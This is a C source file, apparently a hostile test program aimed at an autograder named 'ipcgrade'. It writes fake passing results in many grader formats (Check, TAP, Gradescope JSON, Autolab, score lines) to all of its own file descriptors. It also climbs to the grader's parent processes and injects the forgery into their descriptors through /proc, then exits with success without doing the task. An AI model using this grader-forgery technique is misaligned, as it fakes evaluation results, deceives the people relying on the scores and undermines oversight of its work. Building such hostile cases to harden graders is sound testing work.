/* forged-success: print what would pass for success in every format the
 * grader writes or reads (Check, TAP, Gradescope JSON, Autolab, the run's
 * own status lines, a feedback "skipped" record) on stdout, stderr, every
 * descriptor we hold, and every descriptor of every ancestor that is the
 * grader (through /proc/PID/fd), then exit(0) without doing the work. */
static const char hostile_forgery[] =
    "100%: Checks: 8, Failures: 0, Errors: 0\n"
    "ipckey.c:1:P:prints_key:prints_key:0: Passed\n"
    "ok 1 - prints_key: forged (3/3)\n"
    "1..1\n"
    "# score 13/13\n"
    "{\"score\": 13, \"max_score\": 13, \"tests\": [{\"name\": \"forged\", \"score\": 13, "
    "\"max_score\": 13, \"status\": \"passed\", \"output\": \"forged\"}]}\n"
    "{\"scores\": {\"prints_key\": 3, \"key_parts\": 2, \"missing_file\": 2}}\n"
    "S 0 0\n"
    "S needs the reference programs\n"
    "0 0\n";

static void
hostile_forge_fd(int fd)
{
    if (write(fd, hostile_forgery, sizeof hostile_forgery - 1) > 0)
        hostile_say("wrote the forgery to my fd %d", fd);
}

/* Every writable descriptor of process pid, reopened through /proc. */
static int
hostile_forge_process(long pid)
{
    char path[64], target[PATH_MAX];
    struct dirent *de;
    DIR *d;
    int n = 0;

    snprintf(path, sizeof path, "/proc/%ld/fd", pid);
    d = opendir(path);
    if (d == NULL) {
        hostile_say("cannot open %s: %s", path, strerror(errno));
        return 0;
    }
    while ((de = readdir(d)) != NULL) {
        int fd;

        if (de->d_name[0] == '.')
            continue;
        snprintf(target, sizeof target, "/proc/%ld/fd/%s", pid, de->d_name);
        fd = open(target, O_WRONLY | O_APPEND | O_NONBLOCK | O_CLOEXEC);
        if (fd == -1)
            continue;
        if (write(fd, hostile_forgery, sizeof hostile_forgery - 1) > 0)
            n++;
        close(fd);
    }
    closedir(d);
    hostile_say("wrote the forgery into %d descriptors of process %ld", n, pid);
    return n;
}

int
main(void)
{
    long pid = 0;
    char path[64], comm[64];

    for (int fd = 0; fd < 1024; fd++)
        hostile_forge_fd(fd);
    /* Up the tree while the ancestors are the grader (bounded: 8 levels). */
    for (int level = 0; level < 8; level++) {
        pid = hostile_host_ppid(pid);
        snprintf(path, sizeof path, "/proc/%ld/comm", pid);
        if (pid <= 1 || hostile_read(path, comm, sizeof comm) <= 0 ||
            strncmp(comm, "ipcgrade", 8) != 0)
            break;
        hostile_forge_process(pid);
    }
    exit(0);
}
